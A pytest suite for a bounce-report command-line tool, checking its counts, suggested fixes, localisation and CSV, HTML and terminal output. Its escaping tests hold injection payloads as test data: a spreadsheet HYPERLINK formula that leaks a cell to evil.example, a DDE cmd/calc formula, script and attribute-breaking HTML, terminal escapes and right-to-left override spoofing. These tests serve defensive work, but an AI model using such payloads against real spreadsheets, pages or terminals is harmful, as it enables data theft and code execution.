"""``bounceinterp report``: what goes wrong across many bounces, and what to fix first."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from babel.dates import format_interval
from report_samples import (
    Refusal,
    bounce,
    day,
    host_down,
    mailbox_full,
    maildir,
    mbox,
    no_ptr,
    pbl,
    spf_fail,
    user_unknown,
)

from bounceinterp.mailbox import Message
from bounceinterp.report import render, report_data, summarize
from bounceinterp.report.actions import ActionKey, action_of
from bounceinterp.report.fold import Summary
from bounceinterp.report.progress import Progress
from bounceinterp.report.records import Record, Row
from bounceinterp.report.run import records
from bounceinterp.report.speech import reader_for

FIXTURES = Path(__file__).parent / "fixtures"
FORWARDER = "mail.labo.example.edu"
ENGLISH = {**os.environ, "LANGUAGE": "en", "LC_ALL": "C.UTF-8"}


def run_cli(*args: str, stdin: bytes | None = None, env=None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "bounceinterp", *args],
        input=stdin,
        capture_output=True,
        check=False,
        env=env or ENGLISH,
    )


def forwarded(rcpt: str, when) -> bytes:
    local = rcpt.split("@")[0]
    return bounce(rcpt, spf_fail(), when, original_rcpt=f"{local}@labo.example.edu", mta=FORWARDER)


def month_of_bounces(root: Path) -> Path:
    """A self-hoster's November: a home IP on the Spamhaus PBL, a lab that forwards without
    SRS, no reverse DNS at Gmail, a few everyday failures, a delay, and mail that is not a
    bounce (an auto-reply, a personal message)."""
    listed = [
        bounce("ana@example.net", pbl(), day(2)),
        bounce("bruno@example.com", pbl(), day(3)),
        bounce("chloe@example.de", pbl(), day(5)),
        bounce("dario@example.it", pbl(), day(9)),
        bounce("emma@example.net", pbl(), day(12)),
        bounce("farid@example.com", pbl(), day(20)),
    ]
    maildir(
        root / "Maildir",
        cur=[*listed[:4], (FIXTURES / "auto_reply.eml").read_bytes()],
        new=[*listed[4:], bounce("gina@example.fr", host_down(), day(21))],
    )
    mbox(
        root / "archive.mbox",
        [
            forwarded("jacqueline@example.com", day(4)),
            forwarded("marc@example.net", day(6)),
            forwarded("nadia@example.org", day(6, hour=15)),
            bounce("olga@gmail.example.com", no_ptr(), day(7)),
            bounce("paul@gmail.example.com", no_ptr(), day(8)),
            (FIXTURES / "plain_mail.eml").read_bytes(),
        ],
    )
    (root / "loose").mkdir()
    (root / "loose" / "typo.eml").write_bytes(
        bounce("quentin@example.net", user_unknown(), day(10))
    )
    (root / "loose" / "gone.eml").write_bytes(bounce("rita@example.org", user_unknown(), day(11)))
    (root / "loose" / "full.eml").write_bytes(bounce("sam@example.com", mailbox_full(), day(13)))
    return root


@pytest.fixture(scope="module")
def tree(tmp_path_factory) -> Path:
    return month_of_bounces(tmp_path_factory.mktemp("mail"))


@pytest.fixture(scope="module")
def report(tree) -> dict:
    result = run_cli("report", "--format", "json", str(tree))
    assert result.returncode == 0, result.stderr
    assert result.stderr == b""  # no progress bar when stderr is not a terminal
    return json.loads(result.stdout)


def test_counts(report):
    assert report["messages"] == 17
    assert report["bounce_messages"] == 15 and report["bounces"] == 15
    assert report["failures"] == 14 and report["delays"] == 1
    assert report["by_kind"] == {"failure": 14, "auto_reply": 1, "delay": 1, "not_a_bounce": 1}
    assert report["by_category"] == {
        "blocked": 6, "spf_fail": 3, "require_ptr": 2, "user_unknown": 2, "host_down": 1,
        "mailbox_full": 1,
    }  # fmt: skip
    assert report["delays_by_category"] == {"host_down": 1}
    assert report["by_permanence"] == {"final": 14, "temporary": 0, "unknown": 0}
    assert report["by_blocklist"] == {"Spamhaus PBL": 6}
    assert report["by_client_ip"] == {"203.0.113.7": 8, "192.0.2.7": 3}
    assert report["by_domain"]["example.net"] == 4 and report["by_domain"]["example.com"] == 4
    assert report["by_remote_server"] == {"mx.example.net": 12, "gmail-smtp-in.l.google.com": 2}
    assert report["by_day"]["2026-11-06"] == 2 and sum(report["by_day"].values()) == 15
    assert report["by_day_category"]["2026-11-06"] == {"spf_fail": 2}
    assert report["first"] == "2026-11-02T10:14:03+00:00"
    assert report["last"] == "2026-11-21T10:14:03+00:00"
    assert report["errors"] == [] and report["undated"] == 0


def test_top_actions_name_the_blocklist_the_sending_ip_and_the_forwarder(report):
    first, second, third = report["top_actions"][:3]
    assert first["kind"] == "blocklisted" and first["bounces"] == 6 and first["domains"] == 4
    assert first["evidence"]["client_ip"] == "203.0.113.7"
    assert first["evidence"]["blocklist"] == "Spamhaus PBL"
    assert first["evidence"]["delist_url"] == "https://check.spamhaus.org/"
    assert first["text"] == (
        "Your sending IP 203.0.113.7 is listed on Spamhaus PBL: 6 bounces from 4 domains since "
        "Nov\xa02,\xa02026."
    )
    assert "https://check.spamhaus.org/" in first["advice"]
    assert "relay" in first["advice"]

    assert second["kind"] == "forwarded_auth" and second["evidence"]["forwarded_by"] == FORWARDER
    assert second["text"] == (
        f"Mail forwarded by {FORWARDER} fails SPF: 3 bounces from 3 domains since "
        "Nov\xa04,\xa02026."
    )
    assert "SRS" in second["advice"] and FORWARDER in second["advice"]
    assert second["messages"] == 3

    assert third["kind"] == "no_reverse_dns" and third["evidence"]["client_ip"] == "203.0.113.7"
    assert third["text"] == (
        "No reverse DNS name for your sending IP 203.0.113.7: 2 bounces from gmail.example.com "
        "since Nov\xa07,\xa02026."
    )
    kinds = [action["kind"] for action in report["top_actions"]]
    assert kinds == ["blocklisted", "forwarded_auth", "no_reverse_dns", "user_unknown",
                     "mailbox_full", "unreachable"]  # fmt: skip
    unknown = report["top_actions"][3]
    assert unknown["text"] == (
        "2 addresses do not exist (quentin@example.net and rita@example.org): 2 bounces from 2 "
        "domains since Nov\xa010,\xa02026."
    )
    assert unknown["evidence"]["examples"] == ["quentin@example.net", "rita@example.org"]
    delay = report["top_actions"][5]
    assert delay["text"] == (
        "The mail servers of example.fr cannot be reached: 1 bounce since Nov\xa021,\xa02026."
    )


def test_the_example_message_of_an_action_can_be_explained(report, tree):
    label = report["top_actions"][1]["evidence"]["example_message"]
    assert label == f"{tree}/archive.mbox#1"
    explained = run_cli("explain", "--format", "json", label)
    assert json.loads(explained.stdout)["recipients"][0]["category"] == "spf_fail"


def test_the_table(tree):
    result = run_cli("report", str(tree))
    assert result.returncode == 0 and result.stderr == b""
    text = result.stdout.decode()
    assert text.startswith("Bounce report\n=============\n")
    assert "Messages read" in text and "Delays (still being retried)" in text
    assert "1. Your sending IP 203.0.113.7 is listed on Spamhaus PBL" in text
    assert "Sending server blocked (blocked)" in text
    period = format_interval(date(2026, 11, 2), date(2026, 11, 21), "yMMMd", locale="en")
    assert "Spamhaus PBL" in text and f"Period                          {period}" in text


def test_jobs_1_and_jobs_2_give_the_same_output(tmp_path):
    # Enough messages for many chunks, so that the pool really works in parallel.
    many = [bounce(f"user{i}@example{i % 7}.net", [pbl(), user_unknown(), mailbox_full()][i % 3],
                   day(1 + i % 28)) for i in range(150)]  # fmt: skip
    mbox(tmp_path / "big.mbox", many)
    maildir(tmp_path / "Maildir", new=many[:40])
    outputs = {}
    for fmt in ("json", "csv", "table"):
        for jobs in ("1", "2"):
            result = run_cli("report", "--jobs", jobs, "--format", fmt, str(tmp_path))
            assert result.returncode == 0, result.stderr
            outputs[fmt, jobs] = result.stdout
        assert outputs[fmt, "1"] == outputs[fmt, "2"]
    assert json.loads(outputs["json", "2"])["messages"] == 190


def test_an_unreadable_file_is_an_error_line_and_the_rest_is_counted(tmp_path):
    month_of_bounces(tmp_path)
    (tmp_path / "loose" / "broken.eml").symlink_to(tmp_path / "nowhere.eml")
    result = run_cli("report", "--format", "json", str(tmp_path))
    assert result.returncode == 1
    data = json.loads(result.stdout)
    assert data["messages"] == 17
    broken = str(tmp_path / "loose" / "broken.eml")
    message = f"cannot read {broken}: No such file or directory"
    assert data["errors"] == [{"file": broken, "error": message}]
    assert result.stderr.decode().splitlines() == [f"bounceinterp: {message}"]
    table = run_cli("report", str(tmp_path))
    assert table.returncode == 1 and "Could not be read" in table.stdout.decode()


def test_stdin(tmp_path):
    box = mbox(tmp_path / "box", [bounce("a@example.net", pbl(), day(3)),
                                  bounce("b@example.com", pbl(), day(4))]).read_bytes()  # fmt: skip
    result = run_cli("report", "--format", "json", "-", stdin=box)
    data = json.loads(result.stdout)
    assert data["messages"] == 2 and data["top_actions"][0]["evidence"]["example_message"] == "-#1"
    single = run_cli("report", "--format", "csv", "-", stdin=bounce("a@example.net", pbl(), day(3)))
    rows = list(csv.DictReader(io.StringIO(single.stdout.decode())))
    assert [row["file"] for row in rows] == ["-"]


def test_the_language_is_asked_for_or_the_process_locale(tree):
    asked = json.loads(run_cli("report", "--format", "json", "--lang", "fr-CA", str(tree)).stdout)
    assert asked["lang"] == "fr"
    assert asked["top_actions"][0]["text"].endswith("2\xa0nov.\xa02026.")  # Babel's French date
    german = json.loads(
        run_cli("report", "--format", "json", str(tree), env={**ENGLISH, "LANGUAGE": "de"}).stdout
    )
    assert german["lang"] == "de" and german["top_actions"][0]["text"].endswith("02.11.2026.")
    assert german["top_actions"][0]["bounces"] == asked["top_actions"][0]["bounces"] == 6


def test_nothing_to_report(tmp_path):
    result = run_cli("report", str(tmp_path))
    assert result.returncode == 0
    assert "No bounce found." in result.stdout.decode()
    data = json.loads(run_cli("report", "--format", "json", str(tmp_path)).stdout)
    assert data["messages"] == 0 and data["top_actions"] == [] and data["by_day"] == {}


def test_output_file_is_written_whole(tmp_path, tree):
    target = tmp_path / "report.html"
    result = run_cli("report", "--format", "html", "-o", str(target), str(tree))
    assert result.returncode == 0 and result.stdout == b""
    assert target.read_text(encoding="utf-8").rstrip().endswith("</html>")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]  # no temporary left
    blocked = run_cli("report", "-o", str(tmp_path / "no" / "such" / "dir.txt"), str(tree))
    assert blocked.returncode == 2 and blocked.stderr.decode().startswith("bounceinterp: cannot")


def test_usage_errors(tree):
    for args in (["--jobs", "0"], ["--jobs", "many"], ["--top", "-1"], ["--format", "pdf"]):
        result = run_cli("report", *args, str(tree))
        assert result.returncode == 2 and b"Traceback" not in result.stderr


# --- CSV ---------------------------------------------------------------------------------


def test_csv_has_one_row_per_recipient_and_one_per_error(tmp_path, tree):
    result = run_cli("report", "--format", "csv", str(tree))
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
    assert len(rows) == 16  # 15 bounces and the auto-reply's recipient
    header = result.stdout.decode().splitlines()[0]
    assert header == (
        "file,date,kind,action,address,domain,status,reply_code,category,permanent,who_acts,"
        "remote_server,blocklist,delist_url,client_ip,forwarded_by,diagnostic,error"
    )
    spf = next(row for row in rows if row["category"] == "spf_fail")
    assert spf["forwarded_by"] == FORWARDER and spf["client_ip"] == "192.0.2.7"
    assert spf["file"].endswith("archive.mbox#1") and spf["permanent"] == "true"
    assert spf["date"] == "2026-11-04T10:14:03+00:00" and "SPF fail" in spf["diagnostic"]


def test_csv_quotes_and_defuses_formulas(tmp_path):
    hostile = Refusal(
        "5.1.1",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click"), "quoted", and a comma '
        "\x1b]0;owned\x07 \u202egnp.exe",
        remote="@mx.example.net",
    )
    messages = [
        bounce("=cmd|' /C calc'!A0@example.net", hostile, day(3)),
        bounce("+pat@example.com", user_unknown(), day(3)),
        bounce("-jo@example.com", user_unknown(), day(3)),
    ]
    box = mbox(tmp_path / "box", messages)
    raw = run_cli("report", "--format", "csv", str(box)).stdout.decode()
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["address"] == "'=cmd|' /C calc'!A0@example.net"
    assert first["remote_server"] == "'@mx.example.net"
    assert first["diagnostic"].startswith("'=HYPERLINK(\"http://evil.example/")
    assert '"quoted", and a comma' in first["diagnostic"]
    assert "\\x1b]0;owned\\x07 \\u202egnp.exe" in first["diagnostic"]  # shown, inert
    assert "\x1b" not in raw and "\u202e" not in raw
    assert len(raw.splitlines()) == len(rows) == 4  # one line per recipient
    assert [row[4] for row in rows[2:]] == ["'+pat@example.com", "'-jo@example.com"]


# --- HTML --------------------------------------------------------------------------------

SCRIPT = "<script>document.title='owned'</script>"
QUOTE = '"onmouseover="alert(1)'
RLO = "\u202e"


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data):
        self.text.append(data)


def hostile_summary() -> Summary:
    """Values as a hostile bounce could set them, straight into the fold."""
    summary = Summary()
    row = Row(
        address=f"{SCRIPT}{RLO}fdp.exe@example.com", domain=f"{RLO}moc.elpmaxe{QUOTE}",
        action="failed", status="5.7.1", reply_code=554, category="blocked", permanent=True,
        who_acts="sender_admin", remote=f"mx{SCRIPT}", blocklist=f"{SCRIPT}{QUOTE}",
        blocklist_defunct=False, delist_url=f"javascript:alert(1){QUOTE}", client_ip=QUOTE,
        forwarded_by="", diagnostic="",
    )  # fmt: skip
    summary.add(Record(f"box{SCRIPT}#1", "failure", day(3), (row,)))
    summary.add(Record(f"box{QUOTE}#2", "error", None, (), f"cannot read {SCRIPT}{RLO}"))
    return summary


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_html_escapes_hostile_values(lang):
    page = render(hostile_summary(), "html", lang)
    collector = _Collector()
    collector.feed(page)
    assert "script" not in collector.tags and "a" not in collector.tags
    assert not {"onmouseover", "href", "src"} & collector.attributes
    assert RLO not in page and "\\u202e" in page  # shown as an escape, inert
    assert "&lt;script&gt;" in page and "&quot;onmouseover=&quot;alert(1)" in page
    assert set(collector.tags) <= {
        "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "ul", "li", "b",
        "span", "section", "ol", "p", "div", "svg", "rect", "table", "tr", "th", "td", "bdi",
        "code",
    }  # fmt: skip
    text = "".join(collector.text)
    assert "javascript:alert(1)" in text  # shown, never a link


def test_html_is_self_contained(tree):
    page = run_cli("report", "--format", "html", str(tree)).stdout.decode()
    assert 'http-equiv="Content-Security-Policy" content="default-src \'none\'' in page
    for remote in ("<link", "<script", "@import", "url(", "src="):
        assert remote not in page
    assert page.count("<svg") >= 10 and 'class="time"' in page
    assert "prefers-color-scheme:dark" in page and 'name="viewport"' in page


def test_table_and_json_make_hostile_values_inert():
    summary = hostile_summary()
    table = render(summary, "table", "en")
    assert "\x1b" not in table and RLO not in table and "\\u202e" in table
    data = json.loads(render(summary, "json", "en"))
    assert data["by_blocklist"] == {f"{SCRIPT}{QUOTE}": 1}  # JSON keeps the data as it was


# --- pieces --------------------------------------------------------------------------------


def test_library_api_and_jobs(tree):
    one = summarize(tree)
    two = summarize(tree, jobs=2)
    assert report_data(one, "en") == report_data(two, "en")
    assert one.messages == 17 and not hasattr(one, "interpretations")


def test_greylisting_calls_for_no_action():
    row = Row("a@example.net", "example.net", "delayed", "4.7.1", 450, "greylisted", False,
              "nobody", "", "", False, "", "", "", "")  # fmt: skip
    assert action_of(row) is None
    assert action_of(row._replace(category="user_unknown")) == ActionKey("user_unknown")


def test_a_dead_worker_loses_only_the_message_that_killed_it(tmp_path):
    import report_crash

    messages = [Message(f"m{i}", bounce(f"u{i}@example.net", user_unknown(), day(3)))
                for i in range(100)]  # fmt: skip
    messages[57] = Message("m57", report_crash.POISON)
    found = list(records(messages, jobs=2, work=report_crash.interpret_or_die))
    assert [record.label for record in found] == [f"m{i}" for i in range(100)]
    errors = [record for record in found if record.error]
    assert [record.label for record in errors] == ["m57"]
    assert "worker process stopped" in errors[0].error
    assert all(record.kind == "failure" for record in found if not record.error)


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_is_drawn_on_a_terminal_only():
    reader = reader_for("en")
    terminal = _Terminal()
    progress = Progress(terminal, reader, total=lambda: 1000, done=lambda: 500)
    progress.update(42, force=True)
    progress.note("bounceinterp: cannot read x: Permission denied")
    drawn = terminal.getvalue()
    assert "42 messages read" in drawn and "50%" in drawn and "[" + "#" * 12 in drawn
    # the bar is erased before the error line, which stays
    assert drawn.endswith("messages read\r\x1b[2Kbounceinterp: cannot read x: Permission denied\n")
    progress.update(43, force=True)
    progress.close()
    assert terminal.getvalue().endswith("43 messages read\r\x1b[2K")  # erased at the end
    pipe = io.StringIO()
    quiet = Progress(pipe, reader, total=lambda: 1000, done=lambda: 500)
    quiet.update(42, force=True)
    quiet.close()
    assert pipe.getvalue() == ""
